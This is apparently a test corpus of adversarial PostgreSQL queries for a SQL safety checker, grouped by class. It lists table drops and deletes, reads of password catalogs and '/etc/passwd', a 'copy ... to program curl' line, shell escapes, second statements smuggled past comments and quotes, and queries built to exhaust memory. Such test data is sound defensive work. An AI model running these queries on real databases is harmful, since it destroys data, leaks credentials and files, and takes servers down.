select gen_salt('bf', 31)
select uuid_generate_v1mc()
select sql_exec('drop table orders')
select cron.schedule('* * * * *', 'delete from orders')
select lives_ok('delete from orders')
select apoc('x')
select aws_lambda.invoke('f', '{}')
select aws_s3.query_export_to_s3('select 1', 'b', 'k', 'r')
select set_limit(0.9)
select setseed(0.5)
select nextval('orders_id_seq'::regclass)
select currval(pg_get_serial_sequence('orders', 'id'))
select "nextval"('s')
select "pg_catalog"."set_config"('role', 'postgres', false)
select pg_catalog . pg_sleep ( 1 )
select pg_catalog/**/./**/pg_sleep(1)
select U&"\0070g_sleep"(1)
select U&"d\0061ta" from customers
select u&'\0041' uescape '!'
select "pg_sleep␊"(1)
select pg_sleep(1)::text || name from customers
select name || pg_sleep(1) from customers
select name from customers where name like pg_read_file('x')
select coalesce(null, (select pg_sleep(1))::text)
select array[pg_sleep(1)]
select array(select pg_sleep(1))
select row(pg_sleep(1))
select (select pg_sleep(1))
select count(*) filter (where pg_sleep(1) is null) from orders
select sum(total) over (partition by pg_sleep(1)) from orders
select sum(total) over (order by pg_sleep(1)) from orders
select sum(total) over (order by id rows between pg_sleep(1) preceding and current row) from orders
select string_agg(name, ',' order by pg_sleep(1)) from customers
select percentile_cont((select pg_sleep(1))) within group (order by total) from orders
select name from customers limit (select pg_sleep(1))
select name from customers offset (select nextval('s'))
select name from customers fetch first (select nextval('s')) rows only
select name from customers group by grouping sets ((name), (pg_sleep(1)))
select distinct on (pg_sleep(1)) name from customers
select * from orders tablesample system ((select pg_sleep(1)))
select * from orders tablesample tsm_evil (10)
select * from orders tablesample system_time (100000)
select * from lateral pg_sleep(1) x
select * from customers, lateral (select pg_sleep(1)) x
select * from unnest(array[1], array[pg_sleep(1)]) x
select * from rows from (generate_series(1, 2), pg_sleep(1)) x
select * from xmltable('/a' passing pg_read_file('x') columns b text)
select * from json_table('[]', '$' columns (a int path '$' default pg_sleep(1) on empty))
values (1), ((select nextval('s')))
with x as not materialized (update orders set total = 0 returning *) select 1
with recursive x as (delete from orders returning id) table x
with x as (merge into orders o using customers c on o.id = c.id when matched then delete) select 1
with a as (with b as (insert into orders (id) values (1) returning id) select * from b) select * from a
select * from (delete from orders returning *) x
select * from [delete from orders]
table pg_authid
table orders for update
(select * from orders for update)
select * from orders for update of orders nowait
select * from orders order by id for share limit 1
select * into temp x from orders
select * into unlogged x from orders
select id into strict x from orders
(select * into y from orders)
with x as (select 1) select * into y from x
create temp table x on commit drop as select 1
create or replace temp view v as select 1
create materialized view v as select 1
explain (analyze, buffers) select * from orders
explain (analyze) with x as (delete from orders returning 1) select 1
explain analyze execute p
copy (delete from orders returning *) to stdout
copy orders to program 'curl http://x' with (format csv)
copy orders from stdin
call pg_sleep(1)
do 'begin delete from orders; end'
do language plpythonu $$ import os $$
declare c cursor with hold for select * from orders
fetch forward all from c
set local role postgres
set statement_timeout to 0
reset statement_timeout
set transaction read write
start transaction read write
prepare transaction 'x'
commit prepared 'x'
rollback to savepoint a
listen "x"
unlisten *
lock orders in access exclusive mode
alter table orders disable trigger all
alter default privileges grant all on tables to public
create function f() returns void language c as '/lib/x.so', 'f'
create trigger t after insert on orders execute function f()
create rule r as on select to orders do instead select 1
create event trigger e on ddl_command_start execute function f()
create server s foreign data wrapper postgres_fdw
create user mapping for public server s
create publication p for all tables
create subscription s connection 'host=x' publication p
alter database postgres set search_path = evil
drop owned by public cascade
reassign owned by a to b
truncate orders restart identity cascade
refresh materialized view concurrently v
checkpoint
select 1 \; drop table orders
select 1 \gexec
select 1 \g /tmp/x
\copy orders to '/tmp/x'
\! id
select :'var'
select $1, $2
select * from customers where id = $1::int
select 1; -- ␊drop table orders
select 1 /* ; */; drop table orders
select 1 /* /* */ ; drop table orders */ ; delete from orders
select $a$ $b$ $a$; drop table orders; select $a$ $a$
select 'a\'; drop table orders; --'
select E'a\'', 1; drop table orders --'
select '␊'; delete from orders
select repeat('x', 2000000000)
select lpad('', 1073741823)
select format('%*s', 2000000000, 'x')
select format('%2$*1$s', 2000000000, 'x')
select to_char(1, repeat('9', 100000))
select array_fill(1, array[100000, 100000])
select power(10::numeric, 100000), factorial(100000)
select 100000!
select g from generate_series(1, 9223372036854775807) g
select generate_series(1, 100000) + generate_series(1, 99999)
select count(*) from generate_series(1, 100000) a, generate_series(1, 100000) b, generate_series(1, 100000) c
select * from generate_series(now() - interval '1000 years', now(), interval '1 microsecond')
select unnest(array_agg(a.id)) from orders a, orders b, orders c
select string_agg(repeat(name, 10000), '') from customers
select json_agg(o) from orders o, orders p, orders q
select jsonb_pretty(jsonb_agg(x)) from (select repeat('y', 10000) as x from orders a, orders b) z
with recursive t(a) as (values (1) union all select a * 2 from t) select * from t
with recursive t(a) as (select array[1] union all select a || a from t where array_length(a, 1) < 100000000) select * from t
with recursive a as (select 1 as n union all select n + 1 from b), b as (select n from a) select * from b
with recursive t as (select id from orders union all select o.id from orders o, t) select * from t
with recursive t(x) as (select '{}'::jsonb union all select jsonb_build_array(x, x) from t) select * from t
select 1 operator(evil.=) 1
select 1 ==> 2
select name <<->> 'x' from customers
select name %>> 'x' from customers
select 'x' collate "evil"."c"
select (customers).nextval from customers
select (orders.*).pg_sleep from orders
select o.pg_sleep from orders o
select customers.count from customers
select c.lower from customers c
select o.*::text from orders o, pg_class
select p.rolpassword from pg_catalog.pg_authid p
select * from "pg_catalog"."pg_shadow"
select * from PG_CATALOG.PG_SHADOW
select * from pg_temp.orders
select * from pg_toast.pg_toast_1
select * from public.pg_authid
select * from only (pg_authid)
select * from pg_statistic, customers
select * from pg_stats s
select * from information_schema.role_table_grants
select * from customers c join pg_stat_activity a on true
select 1 from customers where exists (table pg_shadow)
select (table pg_shadow limit 1)
select * from shop.public.pg_user
select orders.ctid, orders.xmin::text from orders
select customers.tableoid::regclass from customers
(table orders for update)
table orders for share
with x as (table orders for update) select * from x
select * from (table orders for no key update) x
select 1 union all table orders for update
table orders into backup
table only orders
select 1 where exists (table orders for update skip locked)
select sum(total) over (order by id rows between 1 preceding and current row exclude pg_sleep(1)) from orders
select id from orders where total between symmetric pg_sleep(1) and 2
select make_interval(days => pg_sleep(1))
select count(orders.*) filter (where pg_sleep(1) is null) from orders
-- class: function
with recursive t(id) as (select id from employees union all select e.id from employees e join t on e.manager_id = t.id) cycle id set c to pg_sleep(10) default false using p select * from t
with recursive t(id) as (select id from employees union all select e.id from employees e join t on e.manager_id = t.id) cycle pg_sleep(10) set c using p select * from t
with recursive t(id) as (select id from employees union all select lo_unlink(e.id) from employees e join t on e.manager_id = t.id) search depth first by id set o select * from t
with recursive t(id) as (select id from employees union all select e.id from employees e join t on e.manager_id = t.id) search depth first by id set o select pg_read_file(o::text) from t
select name from customers where name like any (array[pg_read_file('/etc/passwd')])
select name from customers where name like any (array(select pg_ls_dir('/')))
select name from customers where pg_read_file('x') not like all (array['a'])
select (o).id from (select pg_sleep(1) as id) o
select (pg_stat_file('x')).size
select * from orders tablesample system (pg_sleep(3))
select * from orders tablesample bernoulli (10) repeatable (nextval('s'))
-- class: statement
with recursive t(id) as (delete from employees returning id) cycle id set c using p select * from t
with recursive t(id) as (select id from employees union all select e.id from employees e join t on e.manager_id = t.id for update) cycle id set c using p select * from t
with recursive t(id) as (select id from employees for share) search depth first by id set o select * from t
with x as (select id from orders for share of orders) select * from x
-- class: size
select array_agg(repeat('x', 10000)) from generate_series(1, 1000000)
select string_agg(repeat('x', 10000), '') from generate_series(1, 100000)
select jsonb_agg(repeat('x', 100000) || g) from generate_series(1, 200000) as g
select json_object_agg(g, lpad('x', 100000)) from generate_series(1, 100000) g
-- class: function
select (name).pg_read_file from customers
select (o.id).pg_sleep from orders o
select (pg_user).usename from pg_user
select (select (u).usename from pg_user u limit 1)
select name.pg_read_file from customers
select (o).pg_sleep from orders o
with recursive t(n) as (values (1) union all select n+1 from t where not c) cycle n set c using p select count(*) from t
with recursive t(n, x) as (select 1, 'a' union all select n+1, x||x from t where n < 100) cycle n set c using p select * from t
with recursive t(n) as (select 1 union all select n+1 from t) search depth first by n set o select * from t
with x as (select 1 for share of "kid") select id from x
select 1 for share of "x"
-- class: outsider
select cast('a' as char(10000000))
select 'a'::character(10000000)
with recursive f(n) as (select 1 union all select n * 0 + 1 from f where n < 2) select count(*) from f
with recursive f(n) as (select 1 union all select 1 + 0 * n from f where n < 2) select count(*) from f
